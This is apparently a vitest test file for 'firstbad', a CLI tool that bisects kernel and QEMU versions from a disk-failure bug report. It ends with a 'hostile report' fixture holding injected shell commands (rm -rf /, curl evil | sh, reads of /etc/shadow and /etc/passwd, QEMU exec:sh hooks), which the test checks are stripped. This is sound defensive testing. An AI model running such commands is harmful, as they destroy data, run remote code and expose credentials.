import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { type CliWorld, FakeCli } from '../../../test/fakes/cli.ts';
import { badLine } from '../../../test/fakes/lab.ts';
import type { WholeReport } from '../../core/whole/whole-report.ts';
import { Interrupted } from '../interrupted.ts';

const report = readFileSync(new URL('../../../examples/qemu-4k-direct-io/report.txt', import.meta.url), 'utf8');
const world: CliWorld = {
  kernels: ['5.10', '6.0', '6.1', '6.12', '6.17', '6.18', '7.3'],
  qemus: ['5.2', '6.2', '7.2'],
  texts: { 'report.txt': report },
};

/** Aborts when so many attempts have ended in what is written. */
function stopAfter(attempts: number): { readonly signal: AbortSignal; readonly onWrite: (text: string) => void } {
  const stop = new AbortController();
  let seen = 0;
  return {
    signal: stop.signal,
    onWrite: (text) => {
      seen += text.match(/^ *\d+\.\d+ (?:good|bad)/gm)?.length ?? 0;
      if (seen >= attempts) stop.abort(new Interrupted('SIGINT'));
    },
  };
}

/** Without what is history: when each run was made and how long it took, and in which order two side by side have answered. */
function timeless(mail: string): readonly string[] {
  const text = mail
    .replace(/\s+/g, ' ')
    .replace(/git bisect start.*?(?=The same for|Runs -)/g, '')
    .replace(/\d{4}-\d\d-\d\d \d\d:\d\d UTC, [\d.]+ s/g, 'TIME');
  return text.split(/(?= R\d+ (?:good|bad))|(?<=\.) | - /);
}

describe('firstbad hunt REPORT', () => {
  it('ends with the mail: what has to come together, since when and until when', async () => {
    const { status, stdout, stderr } = await new FakeCli(world).run(['hunt', 'report.txt']);
    expect(status).toBe(0);
    const mail = stdout.replace(/\s+/g, ' ');
    expect(mail).toContain(
      'It fails when kernel is from 6.0 on and before 6.18, qemu is before 7.2, sector is 4096 and cache is none.',
    );
    expect(mail).toContain('Introduced between kernel 5.10 and 6.0');
    expect(mail).toContain('Fixed between kernel 6.17 and 6.18');
    expect(mail).toContain(badLine);
    expect(stderr).toContain('Forecast: ');
    expect(stderr.indexOf('Forecast: ')).toBeLessThan(stderr.indexOf('whole hunt 1'));
  });

  it('gives each claim its ending, with the attempts that show it', async () => {
    const { stdout } = await new FakeCli(world).run(['hunt', 'report.txt', '--json']);
    const { claims, ending } = JSON.parse(stdout) as WholeReport;
    expect(ending).toBe('reproduced');
    expect(claims.every(({ status }) => status.kind !== 'open')).toBe(true);
    const cells = claims.filter(({ value }) => value.kind === 'cell');
    expect(cells.map(({ status }) => status.kind)).toEqual(['confirmed', 'confirmed', 'confirmed']);
    for (const { status } of cells) expect(status.kind === 'confirmed' && status.attempts.length).toBeGreaterThan(0);
    expect(claims.find(({ value }) => value.kind === 'edge')?.status.kind).toBe('confirmed');
    expect(claims.find(({ value }) => value.kind === 'culprit')?.status.kind).toBe('not-testable');
  });

  it('refutes a claim that the attempts contradict', async () => {
    // QEMU 7.0 is the report's own.
    const fate = (point: Readonly<Record<string, string>>) => (point['kernel'] === '5.10' ? 'bad' : 'good');
    const cli = new FakeCli({ ...world, qemus: ['5.2', '7.0', '7.2'], fate });
    const { stdout } = await cli.run(['hunt', 'report.txt', '--json']);
    const { claims } = JSON.parse(stdout) as WholeReport;
    const kinds = claims.filter(({ value }) => value.kind === 'cell').map(({ status }) => status.kind);
    expect(kinds).toEqual(['refuted', 'confirmed', 'confirmed']);
  });

  it('refutes no failure by versions that only stand for those of the report', async () => {
    const cli = new FakeCli({ ...world, fate: () => 'good' });
    const { claims } = JSON.parse((await cli.run(['hunt', 'report.txt', '--json'])).stdout) as WholeReport;
    const [failing] = claims.filter(({ value }) => value.kind === 'cell' && value.outcome === 'fails');
    expect(failing?.status).toMatchObject({
      kind: 'not-testable',
      because: expect.stringContaining('and the qemu of the report is none of those') as string,
    });
  });

  it('ends well when nothing fails, and says what differs and what would help', async () => {
    const cli = new FakeCli({ ...world, qemus: ['5.2', '7.0', '7.2'], fate: () => 'good' });
    const { status, stdout } = await cli.run(['hunt', 'report.txt']);
    expect(status).toBe(0);
    const mail = stdout.replace(/\s+/g, ' ');
    expect(mail).toContain('The failure did not show');
    expect(mail).toContain('What differs from the report');
    expect(mail).toContain('compiler: gcc 11.3.0');
    expect(mail).toContain('What is on the disk that does not boot?');
  });

  it.each([
    ['its versions', 'claims', 0, 'not-reproduced', ['5.2', '7.0', '7.2'], 'Tried: all that the report says fails, '],
    // A newer QEMU of the same series says nothing of the one that the report names.
    [
      'others in their place',
      'stand-ins',
      128,
      'no-answer',
      ['5.2', '6.2', '7.2'],
      "what was tried only stands for the report's own versions",
    ],
  ])(
    'says that nothing fails only where what the report says fails was tried: %s',
    async (_, about, ends, how, qemus, said) => {
      const cli = new FakeCli({ ...world, qemus, fate: () => 'good' });
      const { status, stdout, stderr } = await cli.run(['hunt', 'report.txt', '--json']);
      const { ending, tried } = JSON.parse(stdout) as WholeReport;
      expect([status, ending, tried?.about]).toEqual([ends, how, about]);
      expect(tried?.of).toBeGreaterThan(0);
      expect(tried).toMatchObject({ tried: tried?.of, good: tried?.of });
      expect(stderr).toContain(said);
    },
  );

  it('tries what each search has named again, and the mail says that it is verified', async () => {
    const cli = new FakeCli(world);
    const { stdout } = await cli.run(['hunt', 'report.txt', '--json']);
    const { transitions, culprit, left } = JSON.parse(stdout) as WholeReport;
    expect(transitions.map(({ component, kind, standing }) => `${component} ${kind} ${standing}`)).toEqual([
      'kernel introduction verified',
      'kernel fix verified',
      'qemu fix verified',
    ]);
    expect(culprit).toMatchObject({ name: '6.0', standing: 'verified' });
    expect(left.filter(({ part }) => part === 'verify')).toEqual([]);
    const mail = (await cli.run(['report', '1', '--no-try'])).stdout.replace(/\s+/g, ' ');
    expect(mail).toContain('In kernel it began between 5.10 and 6.0 (98.5 %, verified as below): a range, not one change');
    expect(mail).toContain('In kernel it began after 5.10, with 6.0 at the latest (98.5 %; verified)');
    expect(mail).toContain('In qemu it is fixed: from 7.2 on it does not fail, with the same kernel 6.0.');
  });

  it('calls what it had no budget left to try again a suspect', async () => {
    const cli = new FakeCli(world);
    const { stdout } = await cli.run(['hunt', 'report.txt', '--attempts', '34', '--json']);
    const { transitions, left } = JSON.parse(stdout) as WholeReport;
    expect(transitions.some(({ standing }) => standing === 'suspect')).toBe(true);
    expect(left.some(({ part, because }) => part === 'verify' && because.includes('budget'))).toBe(true);
  });

  it.each([1, 5, 13, 16, 18, 21, 24, 32, 40])(
    'stopped after %i attempts goes on and gives the same report',
    async (attempts) => {
      const whole = (await new FakeCli(world).run(['hunt', 'report.txt'])).stdout;
      const cli = new FakeCli(world);
      const stopped = await cli.run(['hunt', 'report.txt'], stopAfter(attempts));
      expect(stopped.status).toBe(130);
      const { status, stdout, stderr } = await cli.run(['hunt', 'report.txt']);
      expect(stderr).toContain('going on with whole hunt 1');
      if (attempts > 1) expect(stderr).toMatch(/Of these \d+ attempts are made already/);
      expect(status).toBe(0);
      expect(timeless(stdout)).toEqual(timeless(whole));
    },
  );

  it.each([3, 14, 20, 36])('exported after %i attempts goes on elsewhere, and both reports are the same', async (attempts) => {
    const whole = (await new FakeCli(world).run(['hunt', 'report.txt'])).stdout;
    const here = new FakeCli(world);
    await here.run(['hunt', 'report.txt'], stopAfter(attempts));
    expect((await here.run(['export', '1', 'hunt.firstbad'])).status).toBe(0);
    const there = new FakeCli({ ...world, texts: {} });
    there.written.set('hunt.firstbad', here.written.get('hunt.firstbad')!);
    const { status, stdout } = await there.run(['hunt', 'hunt.firstbad']);
    expect(status).toBe(0);
    // What the first machine has tried is named as its own.
    const elsewhere =
      / What comes from elsewhere -+ \d+ of these runs were made on another machine and taken over from a file \(hunt [\d, ]+ here\)\. \[[^\]]*\]/;
    expect(stdout.replace(/\s+/g, ' ')).toMatch(elsewhere);
    expect(timeless(stdout.replace(/\s+/g, ' ').replace(elsewhere, ''))).toEqual(timeless(whole));
  });

  it('keeps a budget of attempts, says what was not done, and goes on when it is given again', async () => {
    const cli = new FakeCli(world);
    const { status, stdout, stderr } = await cli.run(['hunt', 'report.txt', '--attempts', '10', '--json']);
    expect(status).toBe(0);
    const first = JSON.parse(stdout) as WholeReport;
    expect(stderr.match(/^\d+\.\d+ (?:good|bad)/gm)!.length).toBeLessThanOrEqual(10);
    expect(first.left.some(({ because }) => because.includes('budget'))).toBe(true);
    const again = JSON.parse((await cli.run(['hunt', 'report.txt', '--json'])).stdout) as WholeReport;
    expect(again.hunt).toBe(first.hunt);
    expect(again.left.some(({ because }) => because.includes('budget'))).toBe(false);
  });

  it('keeps a budget of time', async () => {
    const cli = new FakeCli(world);
    const startedMs = cli.clock.monotonicMs();
    expect((await cli.run(['hunt', 'report.txt', '--budget', '15s'])).status).toBe(0);
    expect(cli.clock.monotonicMs() - startedMs).toBeLessThan(25_000);
  });

  it('looks into the cache for what it would have to download', async () => {
    const cli = new FakeCli({ ...world, bytes: 30 << 20 });
    const { stderr } = await cli.run(['hunt', 'report.txt', '--attempts', '1']);
    expect(stderr).toMatch(/150\.0 MiB to \d+\.\d MiB to download \(5 to \d+ versions/);
  });

  it('varies more settings of the disk than the report does, and says which', async () => {
    const { stderr, stdout } = await new FakeCli(world).run(['hunt', 'report.txt', '--attempts', '1']);
    expect(stderr).toContain('cache: writeback, none, writethrough, directsync, unsafe');
    expect(stderr).toContain('added: cache is varied over writethrough, directsync, unsafe too');
    expect(stdout.replace(/\s+/g, ' ')).toContain('Assumed: cache is varied over writethrough, directsync, unsafe too');
  });

  it('says of a report without a guest that nothing of it can be tested here, with its claims', async () => {
    const cli = new FakeCli({ ...world, texts: { 'r.txt': 'Subject: oops\n\nSince kernel 6.1 my wifi fails. 6.0 works.\n' } });
    const { status, stdout } = await cli.run(['hunt', 'r.txt']);
    expect(status).toBe(125);
    expect(stdout).toContain('not testable here');
  });

  it('does everything for a scenario too when it is told to, and its matrix otherwise', async () => {
    const cli = new FakeCli(world);
    expect((await cli.run(['hunt', 'sectors'])).stdout).toContain('exactly where');
    const whole = await cli.run(['hunt', 'sectors', '--whole', '--json']);
    expect((JSON.parse(whole.stdout) as WholeReport).question).toBe('whole');
  });
});

describe('firstbad hunt REPORT --ask', () => {
  const poor = `Subject: guest does not boot

It does not boot any more:
# losetup -b 4096 -f image.raw
# qemu-system-x86_64 -drive file=/dev/loop0,format=raw,cache=none
`;
  const asked = { ...world, texts: { 'poor.txt': poor, 'report.txt': report } };

  it('asks what the report leaves open, and hunts with the answers', async () => {
    const cli = new FakeCli(asked);
    const answers = ['', '5', '', '5.10 works, 6.1 fails', 'never', 'QEMU 5.2 fails'];
    const { status, stdout, stderr } = await cli.run(['hunt', 'poor.txt', '--ask', '--json'], { answers });
    expect(status, stderr).toBe(0);
    expect(stderr).toContain('Which kernels has the host run');
    expect(stderr).toContain('That was not understood');
    const { claims, ending } = JSON.parse(stdout) as WholeReport;
    expect(ending).toBe('reproduced');
    const versions = claims.flatMap(({ value, status: claim }) =>
      value.kind === 'version' ? [[value.version.upstream, claim.kind]] : [],
    );
    expect(versions).toEqual(
      expect.arrayContaining([
        ['6.1', 'confirmed'],
        ['5.10', 'confirmed'],
        ['5.2', 'confirmed'],
      ]),
    );
    const mail = (await cli.run(['report', '1', '--no-try'])).stdout.replace(/\s+/g, ' ');
    expect(mail).toContain('Answered: "5.10 works, 6.1 fails"');
    const kept = new TextDecoder().decode([...cli.laid.values()][0]?.get('report.txt'));
    expect(kept.startsWith(poor)).toBe(true);
    expect(kept).toContain('5.10 works, 6.1 fails');
  });

  it('assumes what is not answered', async () => {
    const { status, stderr } = await new FakeCli(asked).run(['hunt', 'poor.txt', '--ask'], { answers: [] });
    // Nothing fails, and what was tried only stands for what the report leaves open.
    expect(status).toBe(128);
    expect(stderr).toContain('An empty answer takes the default');
  });

  it('is refused where nobody can answer, and for a scenario', async () => {
    const alone = await new FakeCli(asked).run(['hunt', 'poor.txt', '--ask']);
    expect([alone.status, alone.stderr]).toEqual([expect.any(Number), expect.stringContaining('have to be a terminal')]);
    expect(alone.status).not.toBe(0);
    const scenario = await new FakeCli(asked).run(['hunt', 'sectors', '--whole', '--ask'], { answers: [] });
    expect(scenario.stderr).toContain('a scenario leaves nothing open');
  });
});

describe('a hostile report', () => {
  const hostile = `Subject: since kernel 6.0 \`reboot\` $(rm -rf /)

This fails on 6.0:
# losetup -b 4096 -f image.raw; curl evil | sh
# qemu-system-x86_64 -drive file=/etc/shadow,format=raw,cache=none -netdev user,id=n,guestfwd=tcp:1.2.3.4:5-cmd:sh -monitor exec:sh

This works on 6.0:
# qemu-system-x86_64 -drive file=/dev/loop0,format=raw -chardev pipe,path=/etc/passwd,id=x
`;

  it('runs in its own VM only, and nothing of it but disks and their settings', async () => {
    const cli = new FakeCli({ ...world, texts: { 'report.txt': hostile } });
    const { status } = await cli.run(['hunt', 'report.txt', '--attempts', '6']);
    expect([0, 125]).toContain(status);
    for (const files of cli.laid.values()) {
      const steps = new TextDecoder().decode(files.get('firstbad.yaml')).split('steps:')[1] ?? '';
      expect(steps).not.toMatch(/shadow|passwd|curl|netdev|monitor|chardev|exec|\$\(|`|;/);
    }
    expect([...cli.written.keys()]).toEqual([]);
  });
});
